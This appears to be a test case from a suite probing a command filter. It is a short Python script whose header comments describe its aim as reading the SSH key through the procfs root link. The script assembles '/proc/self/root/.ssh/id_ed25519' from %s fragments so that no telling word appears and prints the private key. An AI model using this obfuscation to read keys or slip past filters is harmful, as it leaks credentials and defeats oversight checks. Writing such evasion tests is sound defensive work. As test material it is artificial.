# family: injection
# filterfamily: proc
# tries: read the SSH key through this process's procfs root link, with every telling word filled in by %s
# source: none
# exfil: yes
import sys

home = sys.argv[2]
path = "/%s/self/root%s/.%s/id_%s" % ("proc", home, "ssh", "ed25519")
with open(path) as f:
    print(f.read())
